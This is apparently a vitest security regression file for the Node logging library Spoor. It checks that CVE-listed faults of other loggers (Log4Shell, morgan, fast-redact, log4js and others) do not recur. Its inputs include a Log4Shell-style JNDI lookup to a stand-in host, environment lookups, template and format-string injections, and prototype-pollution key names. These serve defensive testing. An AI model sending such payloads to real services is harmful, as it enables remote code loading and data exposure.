// Faults of other loggers, tried on lines, headers and files of Spoor. docs/security.md lists every case, also those that older tests try.
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { defineLogs } from 'spoor'
import { describe, expect, test } from 'vitest'
import type { Handler } from '../../src/logging/handlers/handler.js'
import { parseLine } from '../../src/logging/parser.js'
import { redaction } from '../../src/safe-values/redaction.js'
import { linesOf, temporaryFolder } from '../programs/folder.js'
import { runProgram } from '../programs/program.js'

const formats = ['text', 'verbose', 'json', 'gcp', 'ecs', 'datadog'] as const

/** What a logger writes in each format. */
function written(log: (logger: ReturnType<ReturnType<typeof defineLogs>['get']>) => void): string[] {
  return formats.map((format) => {
    let text = ''
    const handler: Handler = {
      write: (lines) => {
        text += lines.toString()
      },
      flush: async () => {},
      close: async () => {},
    }
    const quiet = { format, flush: 'line', console: false, handlers: [handler] } as const
    log(defineLogs({ files: false, console: false, loggers: { a: quiet } }).get('a'))
    return text
  })
}

/** A service with one request, one job, one error, one call and an inspector that is asked. */
const service = `
  import { once } from 'node:events'
  import { createServer, get } from 'node:http'
  import { createSpoor, defineLogs } from 'spoor'
  import { spoorNode } from 'spoor/adapters/node/node.js'
  const logs = defineLogs({
    directory: process.env.LOGS,
    rotation: { maxBytes: 2_000, backups: 3 },
    console: process.env.CONSOLE,
    loggers: { a: { file: 'a.log' }, b: { file: 'b.log', format: 'ecs' } },
  })
  const called = []
  const other = createServer((request, response) => {
    called.push(request.headers)
    response.end('x')
  }).listen(0, '127.0.0.1')
  await once(other, 'listening')
  const host = '127.0.0.1:' + other.address().port
  const spoor = createSpoor({
    service: 's',
    logs,
    requestId: { trust: true },
    tracking: { mode: 'all', watchdog: { afterMs: 60_000 } },
    inspector: { authorize: () => 'all' },
    outgoing: [{ host, logger: 'a', propagate: true }],
  })
  const server = createServer(spoorNode(spoor, {
    account: () => ({ account: 'acme', user: 'ann', roles: ['admin'] }),
    inspector: '/_spoor',
    handler: async (request, response) => {
      await (await fetch('http://' + host)).text()
      await once((await once(get('http://' + host), 'response'))[0].resume(), 'end')
      for (let at = 0; at < 20; at++) for (const name of ['a', 'b']) logs.get(name).info('%s of %o', at, { request })
      spoor.runChild(spoor.carry({ name: 'mail' }), {}, () => logs.get('a').error(new Error('failed'), 'failed'))
      response.end('x')
    },
  }))
  spoor.attach(server)
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const url = 'http://127.0.0.1:' + server.address().port
  const statuses = []
  for (const path of ['/', '/_spoor/', '/_spoor/api/requests', '/_spoor/api/logs', '/_spoor/api/accounts'])
    statuses.push((await fetch(url + path, { headers: JSON.parse(process.env.HEADERS ?? '{}') })).status)
  for (const one of [server, other]) one.close()
  server.closeAllConnections()
  await spoor.close()
  await logs.close()
`

test('CVE-2019-5413 (morgan) and CVE-2022-25921 (morgan-json): nothing is compiled from a text', async () => {
  const env = { LOGS: temporaryFolder(), CONSOLE: 'pretty', NODE_OPTIONS: '--disallow-code-generation-from-strings' }
  const refused = "try { new Function('return 1') } catch (error) { console.error(error.name) }\n"
  const { code, stderr } = await runProgram(`${service}console.error(JSON.stringify(statuses))\n${refused}`, { env })
  // The sources have no page: the build adds it.
  expect([code, stderr]).toEqual([0, '[200,404,200,200,200]\nEvalError\n'])
})

describe('CVE-2021-44228 (Log4Shell)', () => {
  // Not written in one piece, because a linter takes it for a template.
  const inBraces = (name: string): string => ['$', '{', name, '}'].join('')
  const lookups = [
    ...['jndi:ldap://evil.test/a', 'env:HOME', 'process.env.HOME'].map(inBraces),
    ...['#{1+1}', '{{1+1}}', '%{1}', '%n$s', '$HOME'],
  ]

  test.each(lookups)('a message is written as it is: %s', (text) => {
    for (const line of written((logger) => logger.info({ said: text, [text]: 1 }, text))) {
      const parsed = parseLine(line.trimEnd())
      expect(parsed?.message).toBe(text)
      expect(parsed?.fields).toMatchObject({ said: text, [text]: 1 })
    }
  })

  test('a value that fills a place in a message is not read as a message', () => {
    const value = `%s %o ${inBraces('env:HOME')}`
    for (const line of written((logger) => logger.info('%s, %s', value, 'b')))
      expect(parseLine(line.trimEnd())?.message).toBe(`${value}, b`)
  })
})

test('GHSA-g94r-2vxg-569j (.NET), CVE-2026-45292 (Java) and GHSA-w9wp-h8wv-79jx (Rust): baggage is neither read nor sent on', async () => {
  const baggage = Array.from({ length: 150 }, (_, at) => `canary${at}=${'v'.repeat(50)}`).join(',')
  const directory = temporaryFolder()
  const env = {
    LOGS: directory,
    CONSOLE: 'json',
    HEADERS: JSON.stringify({ baggage, traceparent: `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01` }),
  }
  const { code, stderr, stdout } = await runProgram(`${service}console.error(JSON.stringify(called))`, { env })
  expect(code).toBe(0)
  const called = JSON.parse(stderr) as Record<string, string>[]
  expect(called).toHaveLength(2)
  for (const headers of called) expect(headers).toMatchObject({ traceparent: expect.stringContaining('a'.repeat(32)) })
  const files = readdirSync(directory).map((name) => readFileSync(join(directory, name), 'utf8'))
  for (const text of [stderr, stdout, ...files]) expect(text).not.toContain('canary')
})

test('PYSEC-2026-920 (Sentry): cookies with names of a service are in no line', () => {
  const headers = { cookie: 'our_own=canary-1', 'set-cookie': ['our_own=canary-2'], Cookie: 'b=canary-3' }
  const values = [
    {
      req: {
        method: 'GET',
        url: '/',
        headers,
        rawHeaders: ['cookie', 'our_own=canary-4'],
        cookies: { our_own: 'canary-5' },
      },
    },
    { headers, request: { headers: Object.entries(headers) } },
    { error: Object.assign(new Error('failed'), { config: { headers }, response: { headers } }) },
    { res: { statusCode: 200, getHeaders: () => headers, headers } },
    { cookies: { our_own: 'canary-6' }, signedCookies: { our_own: 'canary-7' } },
  ]
  for (const value of values)
    for (const line of written((logger) => logger.info(value, 'x'))) expect(line).not.toContain('canary')
})

test('CVE-2025-57319 (fast-redact): names to redact change no prototype and no value of the caller', () => {
  const names = [
    '__proto__',
    '__proto__.polluted',
    'constructor.prototype.polluted',
    'prototype',
    'a[*].b',
    '*',
    '',
    'toString',
  ]
  const value = { a: [{ b: 1 }], ['__proto__']: { polluted: 1 }, nested: JSON.parse('{"__proto__":{"polluted":1}}') }
  const before = structuredClone(value)
  const { root } = defineLogs({
    files: false,
    console: false,
    loggers: {},
    redact: { keys: names.filter((name) => name !== '') },
  })
  root.info(value, 'x')
  redaction(names).hides('__proto__.polluted')
  expect(value).toEqual(before)
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
  expect(Object.keys(Object.prototype)).toEqual([])
})

test.skipIf(process.platform === 'win32')(
  'CVE-2022-21704 (log4js): no file is readable by others, with any umask',
  async () => {
    const directory = join(temporaryFolder(), 'logs')
    const { code } = await runProgram(`process.umask(0)\n${service}`, { env: { LOGS: directory, CONSOLE: 'json' } })
    expect(code).toBe(0)
    const names = readdirSync(directory)
    expect(names).toEqual(expect.arrayContaining(['a.log', 'a.log.1', 'requests.jsonl']))
    const modes = names.map((name) => [name, statSync(join(directory, name)).mode & 0o027])
    expect(modes).toEqual(names.map((name) => [name, 0]))
    expect(statSync(directory).mode & 0o027).toBe(0)
    expect(linesOf(directory, 'requests.jsonl').length).toBeGreaterThan(0)
  },
)

test('the npm take-overs of September 2025: the package has no dependencies and runs no script at an install', () => {
  const root = fileURLToPath(new URL('../../', import.meta.url))
  const { dependencies, bundleDependencies, optionalDependencies, scripts, peerDependencies, peerDependenciesMeta } =
    JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'))
  expect([dependencies, bundleDependencies, optionalDependencies]).toEqual([undefined, undefined, undefined])
  for (const name of ['preinstall', 'install', 'postinstall']) expect(scripts).not.toHaveProperty(name)
  // A peer that is not optional would be installed.
  for (const name of Object.keys(peerDependencies))
    expect([name, peerDependenciesMeta[name]]).toEqual([name, { optional: true }])
  expect(readFileSync(join(root, 'scripts/release.mjs'), 'utf8')).toContain('--provenance')
})
